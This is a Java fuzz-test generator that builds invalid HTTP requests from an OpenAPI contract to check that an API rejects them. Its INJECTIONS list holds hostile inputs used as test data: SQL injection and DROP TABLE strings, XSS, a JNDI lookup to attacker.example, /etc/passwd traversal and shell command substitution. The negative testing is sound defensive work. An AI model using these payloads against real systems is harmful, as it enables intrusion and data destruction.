package org.s3coop.system;

import java.math.BigDecimal;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.DecimalNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;

/**
 * Invalid requests for one operation, generated from its OpenAPI description and a valid example request (path
 * parameters of real entities, a valid body). A write always carries at least one defect that the contract says
 * must be refused (a required field dropped, an unknown or read-only field, a value of the wrong JSON type, a string
 * over its maxLength or off its pattern, an enum value that does not exist, too many or too few items, a number
 * under its minimum, a NUL character, malformed JSON, a wrong or absent Content-Type, a body that is not an object,
 * an empty or oversized body, a path parameter off its pattern, a stale If-Match, a method the path does not have),
 * plus random noise (unicode, injection-looking and huge strings, extreme numbers, paging garbage in the query).
 * Reads get mutated path and query parameters. Everything comes from one {@link SplittableRandom}: a seed gives
 * the same requests again.
 */
final class BadRequestGenerator {
    static final int MAX_BODY = 65536;
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final Pattern PARAM = Pattern.compile("\\{([^}]+)}");
    private static final List<String> INJECTIONS = List.of("' OR '1'='1", "'; DROP TABLE region; --", "\" OR \"\"=\"",
            "<script>alert(1)</script>", "${jndi:ldap://attacker.example/a}", "{{7*7}}", "../../../../etc/passwd",
            "%00", "%s%s%s%n", "\\", "$(reboot)", "`id`", "null", "undefined", "NaN", "-Infinity", "1e309",
            "0x7fffffff", "' UNION SELECT password FROM pg_shadow --", "\r\n\r\nHTTP/1.1 200 OK", "*", "%", "_");
    private static final List<String> UNICODE = List.of("Çàtàlúñà", "東京都 大阪", "مرحبا بالعالم", "🚀🇪🇺👩‍🔬",
            "e\u0301\u0301\u0301", "\u202Eevil\u202C", "\uFEFFbom", "zero\u200Bwidth", "ǅǈǋ", "Ω≈ç√∫˜µ≤≥÷",
            "\u0001\u0002\u001F", "tab\tand\nnewline", "ＡＢＣ１２");
    private static final List<String> CONTENT_TYPES = List.of("text/plain", "application/xml",
            "application/x-www-form-urlencoded", "multipart/form-data; boundary=xyz", "application/json-patch+json",
            "image/png", "application/jsonx");
    private static final List<String> MALFORMED = List.of("{", "}", "{\"a\":}", "{'title':'x'}", "{title:\"x\"}",
            "[1,2", "{\"a\":1}}", "{\"a\":1,}", "{\"a\" 1}", "{\"a\":NaN}", "{\"a\":Infinity}", "{/*c*/\"a\":1}",
            "{\"a\":\"unterminated}", "{\"a\":\"\\x41\"}", "{\"a\":01}", "\u0000", "<xml/>", "a=1&b=2", "{\"a\":tru}");

    /** One request to send. */
    record BadRequest(String method, String pathAndQuery, Map<String, String> headers, byte[] body, String defect,
            boolean mustFail) {
        String describe() {
            String text = body == null ? "" : new String(body, StandardCharsets.UTF_8);
            return method + " " + pathAndQuery + " " + headers.keySet().stream().filter(h -> !h.equals("Authorization"))
                    .map(h -> h + ": " + headers.get(h)).toList() + " [" + defect + "] body("
                    + (body == null ? 0 : body.length) + "): " + (text.length() > 300 ? text.substring(0, 300) + "…" : text);
        }
    }

    private final LiveOpenApi.Operation op;
    private final Map<String, String> pathValues;
    private final JsonNode validBody;
    private final JsonNode bodySchema;
    private final String token;
    private final SplittableRandom random;

    BadRequestGenerator(LiveOpenApi.Operation op, Map<String, String> pathValues, String validBody, String token,
            SplittableRandom random) {
        this.op = op;
        this.pathValues = pathValues;
        this.token = token;
        this.random = random;
        this.bodySchema = op.bodySchema();
        try {
            this.validBody = validBody == null ? null : LiveOpenApi.JSON.readTree(validBody);
        } catch (JsonProcessingException e) {
            throw new IllegalArgumentException(validBody, e);
        }
        if (bodySchema != null && this.validBody == null) {
            throw new IllegalArgumentException("no valid body for " + op);
        }
    }

    BadRequest next() {
        return op.isWrite() ? nextWrite() : nextRead();
    }

    // ---- writes: one certain defect, some noise -------------------------------------------------------------

    private interface Defect {
        void apply(Draft draft);
    }

    /** A request being built. */
    private final class Draft {
        String method = op.method().toUpperCase();
        Map<String, String> path = new LinkedHashMap<>(pathValues);
        Map<String, String> rawPath = new LinkedHashMap<>();
        List<String> query = new ArrayList<>();
        Map<String, String> headers = new LinkedHashMap<>();
        JsonNode body = validBody == null ? null : validBody.deepCopy();
        String text;
        String contentType = validBody == null ? null : "application/json";
        String defect = "";
        boolean tooLarge;

        BadRequest build() {
            headers.put("Authorization", "Bearer " + token);
            headers.putIfAbsent("Accept", "application/json");
            if (contentType != null) {
                headers.put("Content-Type", contentType);
            }
            String bodyText = text != null ? text : body == null ? null : write(body);
            if (tooLarge) {
                bodyText = padToOversize(bodyText);
            }
            byte[] bytes = bodyText == null ? null : bodyText.getBytes(StandardCharsets.UTF_8);
            String target = renderPath(this);
            while (!query.isEmpty() && target.length() + String.join("&", query).length() + 1 > MAX_REQUEST_TARGET) {
                query.remove(query.size() - 1);
            }
            return new BadRequest(method, target + (query.isEmpty() ? "" : "?" + String.join("&", query)),
                    headers, bytes, defect, op.isWrite());
        }
    }

    private BadRequest nextWrite() {
        Draft d = new Draft();
        int noise = random.nextInt(3);
        for (int i = 0; i < noise; i++) {
            noise(d);
        }
        List<Map.Entry<String, Defect>> defects = certainDefects(d);
        Map.Entry<String, Defect> chosen = defects.get(random.nextInt(defects.size()));
        d.defect = chosen.getKey() + (d.defect.isEmpty() ? "" : " + noise " + d.defect);
        chosen.getValue().apply(d);
        return d.build();
    }

    private List<Map.Entry<String, Defect>> certainDefects(Draft d) {
        List<Map.Entry<String, Defect>> out = new ArrayList<>();
        List<LiveOpenApi.Parameter> pathParams = op.parameters("path");
        if (!pathParams.isEmpty()) {
            out.add(Map.entry("path-parameter", x -> {
                LiveOpenApi.Parameter p = pathParams.get(random.nextInt(pathParams.size()));
                x.rawPath.put(p.name(), offPattern(p.schema()));
            }));
        }
        if (op.hasHeader("If-Match")) {
            out.add(Map.entry("stale-if-match", x -> x.headers.put("If-Match",
                    List.of("\"999999\"", "\"-1\"", "W/\"999999\"", "\"abc\"", "\"999998\", \"999999\"").get(random.nextInt(5)))));
        }
        out.add(Map.entry("wrong-method", x -> x.method = "PATCH"));
        if (bodySchema == null) {
            return out;
        }
        List<Slot> slots = slots(d.body);
        add(out, slots.stream().filter(s -> s.required).toList(), "missing-required", (x, s) -> s.remove(x.body));
        out.add(Map.entry("unknown-field", x -> {
            List<Slot> objects = slots(x.body).stream().filter(s -> s.value(x.body) instanceof ObjectNode).toList();
            ObjectNode target = objects.isEmpty() ? (ObjectNode) x.body
                    : (ObjectNode) objects.get(random.nextInt(objects.size())).value(x.body);
            target.put(pick(List.of("isAdmin", "__proto__", "version", "x" + random.nextInt(1000), "id", "$where")),
                    pick(INJECTIONS));
        }));
        List<Slot> readOnly = readOnlySlots();
        if (!readOnly.isEmpty()) {
            out.add(Map.entry("read-only-field", x -> {
                Slot s = readOnly.get(random.nextInt(readOnly.size()));
                if (s.parent(x.body) instanceof ObjectNode parent) {
                    parent.put((String) s.key, true);
                } else {
                    x.text = "{\"unknown-after-noise\":1}";
                }
            }));
        }
        add(out, slots, "wrong-type", (x, s) -> s.set(x.body, wrongType(s.schema)));
        add(out, slots.stream().filter(s -> s.schema.has("maxLength")).toList(), "too-long",
                (x, s) -> s.set(x.body, TextNode.valueOf(longString(s.schema.get("maxLength").asInt() + 1
                        + random.nextInt(Math.max(1, 10_000 - s.schema.get("maxLength").asInt()))))));
        add(out, slots.stream().filter(s -> s.schema.has("pattern") && !LiveOpenApi.typeOf(s.schema).equals("array")).toList(),
                "off-pattern", (x, s) -> s.set(x.body, TextNode.valueOf(offPattern(s.schema))));
        add(out, slots.stream().filter(s -> s.schema.has("enum")).toList(), "unknown-enum-value",
                (x, s) -> s.set(x.body, TextNode.valueOf(pick(List.of("NOT_A_VALUE", "ADMIN", "", "unknown",
                        s.schema.get("enum").get(0).asText().toLowerCase(), "_" + s.schema.get("enum").get(0).asText())))));
        add(out, slots.stream().filter(s -> s.schema.has("maxItems") && s.value(d.body) instanceof ArrayNode a && !a.isEmpty()).toList(),
                "too-many-items", (x, s) -> {
                    ArrayNode a = (ArrayNode) s.value(x.body);
                    JsonNode item = a.get(0);
                    int target = s.schema.get("maxItems").asInt() + 1 + random.nextInt(20);
                    while (a.size() < target) {
                        a.add(item.deepCopy());
                    }
                });
        add(out, slots.stream().filter(s -> s.schema.path("minItems").asInt(0) > 0).toList(), "too-few-items",
                (x, s) -> s.set(x.body, NODES.arrayNode()));
        add(out, slots.stream().filter(s -> s.schema.has("minimum")).toList(), "under-minimum",
                (x, s) -> s.set(x.body, DecimalNode.valueOf(new BigDecimal(s.schema.get("minimum").asText())
                        .subtract(pick(List.of(new BigDecimal("0.01"), BigDecimal.ONE, new BigDecimal("1e20")))))));
        add(out, slots.stream().filter(s -> s.schema.has("multipleOf")).toList(), "not-a-multiple",
                (x, s) -> s.set(x.body, DecimalNode.valueOf(new BigDecimal("10.005"))));
        add(out, slots.stream().filter(s -> s.value(d.body).isTextual()).toList(), "nul-character",
                (x, s) -> s.set(x.body, TextNode.valueOf(pick(List.of("\u0000", "a\u0000b", s.value(x.body).asText() + "\u0000")))));
        out.add(Map.entry("malformed-json", x -> x.text = random.nextBoolean() ? pick(MALFORMED) : truncated(write(x.body))));
        out.add(Map.entry("wrong-content-type", x -> x.contentType = pick(CONTENT_TYPES)));
        out.add(Map.entry("no-content-type", x -> x.contentType = null));
        out.add(Map.entry("not-an-object", x -> x.text = pick(List.of("[]", "\"text\"", "42", "null", "true", "[{}]", "-1e999"))));
        out.add(Map.entry("empty-body", x -> x.text = pick(List.of("", " ", "\n"))));
        out.add(Map.entry("deep-nesting", x -> {
            int depth = 1000 + random.nextInt(9000);
            x.text = "[".repeat(depth) + "]".repeat(depth);
        }));
        out.add(Map.entry("oversized-body", x -> x.tooLarge = true));
        return out;
    }

    private void add(List<Map.Entry<String, Defect>> out, List<Slot> candidates, String name,
            java.util.function.BiConsumer<Draft, Slot> defect) {
        if (!candidates.isEmpty()) {
            out.add(Map.entry(name, x -> {
                // the slots of the draft's body: noise may have changed values, not the shape
                Slot s = candidates.get(random.nextInt(candidates.size()));
                if (s.exists(x.body)) {
                    defect.accept(x, s);
                } else {
                    x.text = "{\"unknown-after-noise\":1}";
                }
            }));
        }
    }

    /** Changes that keep a request as (in)valid as it was, or make it invalid: never valid on their own. */
    private void noise(Draft d) {
        int kind = random.nextInt(5);
        switch (kind) {
            case 0 -> {
                if (d.body != null) {
                    List<Slot> strings = slots(d.body).stream().filter(s -> s.value(d.body).isTextual()).toList();
                    if (!strings.isEmpty()) {
                        strings.get(random.nextInt(strings.size())).set(d.body, TextNode.valueOf(nastyString()));
                        d.defect += "strings ";
                    }
                }
            }
            case 1 -> {
                if (d.body != null) {
                    List<Slot> numbers = slots(d.body).stream().filter(s -> s.value(d.body).isNumber()).toList();
                    if (!numbers.isEmpty()) {
                        numbers.get(random.nextInt(numbers.size())).set(d.body, DecimalNode.valueOf(new BigDecimal(
                                pick(List.of("1e308", "-1e308", "1e400", "123456789012345678901234567890.123", "-0", "1e-400")))));
                        d.defect += "numbers ";
                    }
                }
            }
            case 2 -> {
                d.query.add(pick(List.of("page=-1", "size=1000000", "page=abc", "q=" + encode(pick(INJECTIONS)),
                        "size=0", "page=99999999999999999999")));
                d.defect += "query ";
            }
            case 3 -> {
                d.headers.put("Accept", pick(List.of("application/json", "*/*", "text/html", "application/xml",
                        "application/problem+json")));
                d.defect += "accept ";
            }
            default -> {
                d.headers.put("X-Forwarded-For", pick(INJECTIONS).replaceAll("[\r\n]", ""));
                d.defect += "headers ";
            }
        }
    }

    // ---- reads: mutated path and query parameters -----------------------------------------------------------

    private BadRequest nextRead() {
        Draft d = new Draft();
        List<LiveOpenApi.Parameter> pathParams = op.parameters("path");
        List<LiveOpenApi.Parameter> queryParams = op.parameters("query");
        StringBuilder defect = new StringBuilder();
        for (LiveOpenApi.Parameter p : pathParams) {
            if (random.nextInt(3) == 0) {
                d.rawPath.put(p.name(), offPattern(p.schema()));
                defect.append("path:").append(p.name()).append(' ');
            }
        }
        for (LiveOpenApi.Parameter p : queryParams) {
            if (random.nextInt(2) == 0) {
                d.query.add(encode(p.name()) + "=" + encodeWithin(badQueryValue(p.schema()), MAX_ENCODED_VALUE));
                defect.append("query:").append(p.name()).append(' ');
            }
        }
        if (random.nextInt(4) == 0) {
            d.query.add(pick(List.of("page=-1", "size=1000000", "size=0", "page=", "unknown=" + encode(pick(INJECTIONS)))));
            defect.append("query:extra ");
        }
        if (random.nextInt(6) == 0) {
            noise(d);
        }
        d.defect = defect.isEmpty() ? "valid-read " + d.defect : defect.toString().trim() + " " + d.defect;
        return d.build();
    }

    private String badQueryValue(JsonNode schema) {
        String type = LiveOpenApi.typeOf(schema);
        List<String> values = new ArrayList<>(List.of("", " ", nastyString(), longString(1 + random.nextInt(3000))));
        if (type.equals("integer") || type.equals("number")) {
            long min = schema.path("minimum").asLong(0);
            long max = schema.path("maximum").asLong(Integer.MAX_VALUE);
            values.addAll(List.of(Long.toString(min - 1), Long.toString(max + 1), "-1", "1.5", "1e3", "NaN",
                    "99999999999999999999", "0x10", "abc", Long.toString(Long.MIN_VALUE)));
        } else if (type.equals("boolean")) {
            values.addAll(List.of("maybe", "TRUE", "1", "yes"));
        } else if (schema.has("pattern")) {
            values.add(offPattern(schema));
        }
        return pick(values);
    }

    // ---- values -----------------------------------------------------------------------------------------------

    /** A value that does not match the schema's pattern (checked), or junk when it has none. */
    private String offPattern(JsonNode schema) {
        Pattern pattern = schema != null && schema.has("pattern") ? Pattern.compile(schema.get("pattern").asText()) : null;
        for (int attempt = 0; attempt < 20; attempt++) {
            String candidate = switch (random.nextInt(7)) {
                case 0 -> pick(INJECTIONS);
                case 1 -> pick(UNICODE);
                case 2 -> longString(1 + random.nextInt(1500));
                case 3 -> pick(List.of("es51", "ES-51", "E", "ESABCD", "12", "", " ", "not-a-uuid", "00000000-0000-0000-0000",
                        UUID.randomUUID() + "x", "zz_top", "%2e%2e", "ES51\n", "ES51\u0000"));
                case 4 -> "\u0000" + pick(INJECTIONS);
                case 5 -> pick(List.of("", " ", "   ", "\t", "\n \r"));
                default -> nastyString();
            };
            // JSON Schema patterns match anywhere unless anchored: find(), not matches()
            if (pattern == null || !pattern.matcher(candidate).find()) {
                if (pattern == null && candidate.isEmpty()) {
                    continue;
                }
                return candidate;
            }
        }
        return " ";
    }

    private String nastyString() {
        return switch (random.nextInt(4)) {
            case 0 -> pick(INJECTIONS);
            case 1 -> pick(UNICODE);
            case 2 -> longString(1 + random.nextInt(10_000));
            default -> pick(INJECTIONS) + pick(UNICODE);
        };
    }

    private String longString(int length) {
        String unit = pick(List.of("a", "é", "東", "🚀", "'", "\\", "x ", "%"));
        StringBuilder sb = new StringBuilder(length + 2);
        while (sb.length() < length) {
            sb.append(unit);
        }
        return sb.toString();
    }

    /** A JSON value of a type the schema does not allow, and that no lenient reader turns into one. */
    private JsonNode wrongType(JsonNode schema) {
        String type = LiveOpenApi.typeOf(schema);
        List<JsonNode> options = new ArrayList<>(List.of(NODES.objectNode().put("nested", "x"), NODES.arrayNode().add(1).add(2)));
        switch (type) {
            case "object" -> options.addAll(List.of(TextNode.valueOf("x"), NODES.numberNode(42), NODES.booleanNode(true),
                    NODES.arrayNode()));
            case "array" -> {
                options.remove(1);
                options.addAll(List.of(TextNode.valueOf("x"), NODES.numberNode(42), NODES.booleanNode(false)));
            }
            case "integer", "number" -> options.addAll(List.of(TextNode.valueOf("abc"), TextNode.valueOf("12abc")));
            case "boolean" -> options.addAll(List.of(TextNode.valueOf("maybe"), TextNode.valueOf("yes please")));
            default -> {
                if (schema != null && schema.has("enum")) {
                    options.addAll(List.of(NODES.numberNode(0), NODES.numberNode(1)));
                }
            }
        }
        return options.get(random.nextInt(options.size()));
    }

    private String truncated(String json) {
        return json.substring(0, Math.max(1, random.nextInt(Math.max(1, json.length() - 1))));
    }

    private String padToOversize(String bodyText) {
        String base = bodyText == null || bodyText.isBlank() ? "{}" : bodyText;
        int extra = MAX_BODY + 1 + random.nextInt(MAX_BODY);
        if (base.startsWith("{") && base.length() > 2) {
            return "{\"padding\":\"" + "p".repeat(extra) + "\"," + base.substring(1);
        }
        return base + " ".repeat(extra);
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private String renderPath(Draft d) {
        Matcher m = PARAM.matcher(op.path());
        StringBuilder sb = new StringBuilder();
        while (m.find()) {
            String name = m.group(1);
            String value = d.rawPath.containsKey(name) ? d.rawPath.get(name) : d.path.get(name);
            if (value == null) {
                throw new IllegalStateException("no value for path parameter " + name + " of " + op);
            }
            m.appendReplacement(sb, Matcher.quoteReplacement(encodeWithin(value, MAX_ENCODED_VALUE)));
        }
        m.appendTail(sb);
        return sb.toString();
    }

    /**
     * Request lines over 4 KiB are refused by the HTTP server itself (414, no body: see docs/api.md); path and query
     * values are kept short enough that requests reach the API.
     */
    static final int MAX_ENCODED_VALUE = 900;
    static final int MAX_REQUEST_TARGET = 3800;

    static String encodeWithin(String raw, int max) {
        String value = raw;
        String encoded = encode(value);
        while (encoded.length() > max) {
            value = value.substring(0, value.length() * 3 / 4);
            encoded = encode(value);
        }
        return encoded;
    }

    static String encode(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String write(JsonNode node) {
        try {
            return LiveOpenApi.JSON.writeValueAsString(node);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    // ---- the body's fields, with their schemas ---------------------------------------------------------------

    /** A field (key) or item (index) of the body, addressed from the root, with its schema. */
    private record Slot(List<Object> pathToParent, Object key, JsonNode schema, boolean required) {
        JsonNode parent(JsonNode root) {
            JsonNode n = root;
            for (Object step : pathToParent) {
                n = step instanceof Integer i ? n.path(i) : n.path((String) step);
            }
            return n;
        }

        JsonNode value(JsonNode root) {
            JsonNode p = parent(root);
            return key instanceof Integer i ? p.path(i) : p.path((String) key);
        }

        boolean exists(JsonNode root) {
            JsonNode p = parent(root);
            return key instanceof Integer i ? p instanceof ArrayNode a && a.size() > i
                    : p instanceof ObjectNode o && o.has((String) key);
        }

        void set(JsonNode root, JsonNode value) {
            JsonNode p = parent(root);
            if (key instanceof Integer i) {
                ((ArrayNode) p).set(i, value);
            } else {
                ((ObjectNode) p).set((String) key, value);
            }
        }

        void remove(JsonNode root) {
            JsonNode p = parent(root);
            if (key instanceof Integer i) {
                ((ArrayNode) p).remove(i);
            } else {
                ((ObjectNode) p).remove((String) key);
            }
        }
    }

    private List<Slot> slots(JsonNode root) {
        List<Slot> out = new ArrayList<>();
        collect(root, bodySchema, new ArrayList<>(), out);
        return out;
    }

    private void collect(JsonNode node, JsonNode schema, List<Object> path, List<Slot> out) {
        if (schema == null) {
            return;
        }
        LiveOpenApi api = op.api();
        if (node instanceof ObjectNode object) {
            List<String> required = new ArrayList<>();
            schema.path("required").forEach(r -> required.add(r.asText()));
            List<String> present = new ArrayList<>();
            object.fieldNames().forEachRemaining(present::add);
            for (String name : present) {
                JsonNode propertySchema = api.property(schema, name);
                if (propertySchema == null) {
                    continue;
                }
                out.add(new Slot(List.copyOf(path), name, propertySchema, required.contains(name)));
                List<Object> child = new ArrayList<>(path);
                child.add(name);
                collect(object.get(name), propertySchema, child, out);
            }
        } else if (node instanceof ArrayNode array) {
            JsonNode itemSchema = api.items(schema);
            for (int i = 0; i < array.size(); i++) {
                if (itemSchema != null && itemSchema.has("properties")) {
                    List<Object> child = new ArrayList<>(path);
                    child.add(i);
                    collect(array.get(i), itemSchema, child, out);
                } else if (itemSchema != null) {
                    out.add(new Slot(List.copyOf(path), i, itemSchema, false));
                }
            }
        }
    }

    /** Read-only properties (computed answers) of the body's objects: sending them is refused. */
    private List<Slot> readOnlySlots() {
        List<Slot> out = new ArrayList<>();
        List<Slot> objects = new ArrayList<>(slots(validBody).stream().filter(s -> s.value(validBody) instanceof ObjectNode).toList());
        objects.add(new Slot(List.of(), null, bodySchema, false));
        for (Slot s : objects) {
            JsonNode schema = s.schema;
            schema.path("properties").fieldNames().forEachRemaining(name -> {
                JsonNode p = op.api().property(schema, name);
                if (p != null && p.path("readOnly").asBoolean(false)) {
                    List<Object> parentPath = new ArrayList<>(s.pathToParent);
                    if (s.key != null) {
                        parentPath.add(s.key);
                    }
                    out.add(new Slot(parentPath, name, p, false));
                }
            });
        }
        return out;
    }
}
